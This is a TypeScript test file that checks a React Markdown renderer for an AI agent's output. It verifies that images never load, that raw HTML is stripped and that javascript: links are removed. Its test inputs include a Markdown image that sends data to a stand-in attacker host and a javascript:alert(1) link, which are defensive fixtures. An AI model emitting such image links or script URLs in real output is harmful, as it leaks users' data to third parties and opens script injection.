import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

describe("the agent's Markdown", () => {
  it("never loads an image: an exfiltrating image becomes a link", () => {
    const html = render("done ![secret](https://attacker.example/?d=abc)");
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://attacker.example/?d=abc"');
    expect(html).toContain("[image: secret]");
  });

  it("renders no raw HTML and no javascript: links", () => {
    const html = render('<img src="https://attacker.example/x"> [x](javascript:alert(1))');
    expect(html).not.toContain("<img");
    expect(html).not.toContain("javascript:");
  });
});
